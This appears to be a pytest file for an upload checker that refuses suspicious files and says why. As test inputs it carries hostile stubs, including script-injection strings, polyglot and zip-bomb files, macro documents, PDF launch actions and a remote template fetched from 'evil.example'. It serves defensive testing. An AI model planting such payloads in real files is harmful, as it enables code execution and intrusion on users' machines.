"""What is mislabelled, broken, too much, two in one, or runs: each is refused, saying why."""

import io

import pytest

from engine.checking import check, pdfs
from engine.errors import FileRefused
from rules.terms import FileKind
from tests import artifacts
from tests.artifacts import mp3, mp4, office, pdf, picture

SIZES = dict.fromkeys(FileKind, 1)
ZIP = artifacts.archive({"run.exe": b"MZ"})
RATIO = b"\0" * (6 << 20)

REFUSED = [
    ("nothing.txt", b"", "empty"),
    ("program.pdf", b"MZ\x90\x00\x03", "unknown_kind"),
    ("program", b"\x7fELF\x02", "unknown_kind"),
    ("run.sh", b"#!/bin/sh\nrm", "unknown_kind"),
    ("letter.rtf", b"{\\rtf1 {\\object}}", "unknown_kind"),
    ("odd.txt", b"x" * 5000 + b"\x1b[2J", "unknown_kind"),
    ("latin.txt", b"Zw\xf6lf", "not_utf8"),
    ("late.csv", b"a" * 5000 + b"\xf6", "not_utf8"),
    ("cut.csv", b"a\xc3", "not_utf8"),
    ("page.html", b"  \n<!doctype html><script>", "web_page"),
    ("drawing.svg", "\ufeff<svg onload='x'>".encode(), "web_page"),
    ("comment.webp", b"<!--    WEBP--><script>alert(1)</script>", "web_page"),
    ("comment.heic", b"<!--ftypheic--><script>alert(1)</script>", "web_page"),
    ("photo.heic", b"\0\0\0\x18ftypheic" + b"\0" * 40, "heic"),
    ("photo.jpg", b"\0\0\0\x18ftypmif1" + b"\0" * 40, "heic"),
    ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_office"),
    # mislabelled
    ("homework.pdf", picture(), "mislabelled"),
    ("board.png", pdf(), "mislabelled"),
    ("sheet.xlsx", office("word/document.xml"), "mislabelled"),
    ("talk.mp3", b"only words", "mislabelled"),
    ("talk.mp4", picture("JPEG"), "mislabelled"),
    # broken
    ("cut.png", picture()[:60], "damaged"),
    ("cut.jpg", picture("JPEG", (400, 400))[:600], "damaged"),
    ("cut.pdf", pdf()[:-40], "damaged"),
    ("empty.pdf", artifacts.pdf_without_pages(), "damaged"),
    ("riddle.pdf", b"%PDF-1.7\nnothing\n%%EOF", "damaged"),
    ("cut.docx", office()[:-30], "damaged"),
    ("cut.docx", b"PK\x03\x04 and then nothing", "damaged"),
    ("changed.docx", artifacts.broken_inside(), "damaged"),
    ("cut.mp4", mp4()[:-5], "damaged"),
    ("beheaded.mp4", artifacts.box(b"ftyp", b"isom") + artifacts.box(b"mdat", b""), "damaged"),
    ("odd.mp4", mp4(more=b"\0\0\0\3mdat"), "damaged"),
    ("stub.mp4", mp4(more=b"\0\0"), "damaged"),
    ("cut.mp3", mp3(frames=2), "damaged"),
    ("noise.mp3", mp3() + b"\x55" * 9000, "damaged"),
    ("odd.mp3", b"\xff\xfb\xf0\0" + b"\0" * 900, "damaged"),
    ("tag.mp3", b"ID3\x03", "damaged"),
    ("cut.wav", artifacts.wav()[:-6], "damaged"),
    ("deaf.wav", b"RIFF\x0c\0\0\0WAVEfmt \0\0\0\0", "damaged"),
    ("cut.ogg", artifacts.ogg()[:-5], "damaged"),
    ("torn.ogg", artifacts.ogg() + b"OggX" + b"\0" * 40, "damaged"),
    ("film.ogv", artifacts.ogg(b"\x80theora"), "unknown_kind"),
    ("cut.webm", artifacts.webm_whole()[:-3], "damaged"),
    ("other.webm", artifacts.webm().replace(b"webm", b"abcd"), "damaged"),
    ("odd.webm", b"\x1aE\xdf\xa3\x00\x00", "damaged"),
    ("stub.webm", b"\x1aE\xdf\xa3", "damaged"),
    # too much
    ("large.txt", b"a" * ((1 << 20) + 1), "too_large"),
    ("wide.png", artifacts.png_that_says(60_000, 60_000), "too_many_dots"),
    ("bomb.docx", office(word__media=RATIO), "swells"),
    ("bomb.docx", artifacts.overlapping(), "swells"),
    ("crowd.docx", artifacts.archive(
        {"word/document.xml": b"", **{str(n): b"" for n in range(10_001)}}, 0), "swells"),
    # two in one
    ("both.png", picture() + ZIP, "two_in_one"),
    ("both.jpg", picture("JPEG") + b"<SCRIPT>alert(1)</script>", "two_in_one"),
    ("page.jpg", picture("JPEG", comment=b"<html>"), "two_in_one"),
    ("both.gif", picture("GIF", comment=b"%PDF-1.7"), "two_in_one"),
    ("both.pdf", pdf() + b"<html>", "two_in_one"),
    ("both.pdf", pdf() + ZIP, "two_in_one"),
    ("both.mp3", mp3() + ZIP, "two_in_one"),
    ("both.docx", office() + b"<html>", "two_in_one"),
    ("both.docx", office()[:-2] + b"\x06\0<html>", "two_in_one"),
    ("page.txt", b"see %PDF-1.7", "two_in_one"),
    # what runs, fetches, carries or is locked
    ("macros.docx", office(word__vbaProject_bin=b"x").replace(b"_bin", b".bin"), "macros"),
    ("macros.docx", office(types=artifacts.MACRO_TYPES), "macros"),
    ("macros.xlsx", office("xl/workbook.xml", xl__macrosheets__1=b"x"), "macros"),
    ("control.docx", office(word__activeX__1=b"x"), "macros"),
    ("macros.odt", artifacts.open_document(Basic__Standard=b"x"), "macros"),
    ("fetches.docx", artifacts.archive({
        "word/document.xml": b"",
        "word/_rels/settings.xml.rels":
            b'<R Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm"/>',
    }), "macros"),
    ("carries.docx", artifacts.archive({"word/document.xml": b"", "word/run.exe": b"MZ"}),
     "files_inside"),
    ("locked.docx", artifacts.locked_office(), "locked"),
    ("many.zip", ZIP, "archive"),
    ("other.odt", artifacts.open_document("formula"), "archive"),
    ("script.pdf", artifacts.pdf_with_script(), "scripted"),
    ("launch.pdf", artifacts.pdf_with_action("Launch"), "scripted"),
    ("sends.pdf", artifacts.pdf_with_action("SubmitForm"), "scripted"),
    ("carries.pdf", artifacts.pdf_with_file(), "files_inside"),
    ("locked.pdf", pdf(password="secret"), "locked"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "why"), REFUSED, ids=[f"{name}-{why}" for name, _, why in REFUSED]
)
def test_it_is_refused_and_says_why(name, content, why) -> None:
    with pytest.raises(FileRefused) as refusal:
        check(io.BytesIO(content), name, SIZES)

    assert (refusal.value.name, refusal.value.why) == (name, why)


def test_a_pdf_of_endless_objects_is_refused(monkeypatch) -> None:
    monkeypatch.setattr(pdfs, "_OBJECTS_MOST", 2)

    with pytest.raises(FileRefused) as refusal:
        check(io.BytesIO(pdf()), "plan.pdf", SIZES)
    assert refusal.value.why == "swells"


def test_a_kind_that_the_district_does_not_take_is_refused() -> None:
    with pytest.raises(FileRefused) as refusal:
        check(io.BytesIO(mp4()), "film.mp4", {**SIZES, FileKind.VIDEO: 0})
    assert refusal.value.why == "not_taken_here"


def test_too_large_says_how_large_it_may_be() -> None:
    with pytest.raises(FileRefused) as refusal:
        check(io.BytesIO(b"a" * (1 << 21)), "large.txt", SIZES)
    assert refusal.value.megabytes == 1
